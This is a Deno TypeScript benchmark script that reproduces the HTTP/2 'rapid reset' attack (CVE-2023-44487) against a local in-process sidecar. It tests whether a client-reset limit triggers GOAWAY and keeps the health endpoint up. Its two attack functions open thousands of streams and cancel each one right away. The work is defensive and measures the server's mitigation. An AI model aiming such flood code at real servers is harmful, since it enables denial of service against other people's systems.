// deno-lint-ignore-file no-console -- a terminal report: printing is its job
/**
 * @module
 * One-off measurement: HTTP/2 "rapid reset" (CVE-2023-44487). One h2c
 * connection to an in-process sidecar opens `--streams` streams
 * (`GET /v1/models`, passed through to the decoder), each cancelled with
 * RST_STREAM right after its HEADERS, `--batch` streams per event-loop turn.
 * `--client node` (default) is `node:http2`, as the outside tester's
 * attack; `--client raw` writes each batch's HEADERS, then their
 * RST_STREAMs, on the socket (tests/support/h2_frames.ts). Reports how many
 * requests reached the decoder, how long the attack ran, whether the
 * sidecar sent GOAWAY or closed the connection, and whether `/health` still
 * answers. `--max-resets` sets `-max-client-resets` (0: the check off).
 *
 * Run from the repository root:
 *   scripts/deno run -A scripts/bench/experiments/rapid_reset.ts [--streams 5000] [--batch 50] [--max-resets 100] [--client node|raw]
 */

import http2 from "node:http2";
import { parseArgs } from "node:util";
import { createHarness } from "../../../tests/support/harness.ts";
import { connectH2c } from "../../../tests/support/h2_frames.ts";

const { values } = parseArgs({
  options: {
    streams: { type: "string", default: "5000" },
    batch: { type: "string", default: "50" },
    "max-resets": { type: "string", default: "100" },
    client: { type: "string", default: "node" },
  },
});
const streams = Number(values.streams);
const batch = Number(values.batch);

/** Where an attack stopped: the streams it sent and why it ended. */
interface Attack {
  readonly sent: number;
  readonly ended: () => string | undefined;
  close(): void;
}

function yieldTurn(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 0));
}

async function attackWithNode(base: string): Promise<Attack> {
  const session = http2.connect(base);
  session.on("error", () => {});
  let ended: string | undefined;
  session.on("goaway", (code: number) => ended ??= `GOAWAY (code ${code})`);
  session.on("close", () => ended ??= "connection closed");
  await new Promise((resolve) => session.once("connect", resolve));
  let sent = 0;
  while (sent < streams && ended === undefined) {
    for (let i = 0; i < batch && sent < streams; i++, sent++) {
      const stream = session.request(
        { ":method": "GET", ":path": "/v1/models" },
        { endStream: true },
      );
      stream.on("error", () => {});
      stream.close(http2.constants.NGHTTP2_CANCEL);
    }
    await yieldTurn();
  }
  return { sent, ended: () => ended, close: () => session.destroy() };
}

async function attackWithRawFrames(port: number): Promise<Attack> {
  const client = await connectH2c(port);
  let ended: string | undefined;
  client.goaway.then((code) => ended ??= `GOAWAY (code ${code})`);
  client.closed.then(() => ended ??= "connection closed");
  let sent = 0;
  while (sent < streams && ended === undefined) {
    const first = sent;
    for (let i = 0; i < batch && sent < streams; i++, sent++) {
      client.get(2 * sent + 1, "/v1/models");
    }
    try {
      await client.flush();
      await yieldTurn();
      for (let id = 2 * first + 1; id < 2 * sent + 1; id += 2) {
        client.cancel(id);
      }
      await client.flush();
    } catch {
      break;
    }
  }
  return { sent, ended: () => ended, close: () => client.close() };
}

await using h = await createHarness({
  config: { verbosity: 1, maxClientResets: Number(values["max-resets"]) },
});
const base = h.listen();
const started = performance.now();
const attack = values.client === "raw"
  ? await attackWithRawFrames(Number(new URL(base).port))
  : await attackWithNode(base);
const attackMs = performance.now() - started;
// Requests already handed to the app get time to reach the decoder.
await new Promise((resolve) => setTimeout(resolve, 1_000));
const health = await fetch(`${base}/health`, {
  signal: AbortSignal.timeout(5_000),
});
await health.body?.cancel();
attack.close();
console.log(JSON.stringify({
  client: values.client,
  maxClientResets: Number(values["max-resets"]),
  streamsSent: attack.sent,
  attackMs: Math.round(attackMs),
  decoderRequests: h.decode.requests.length,
  ended: attack.ended() ?? "still open",
  health: health.status,
}));
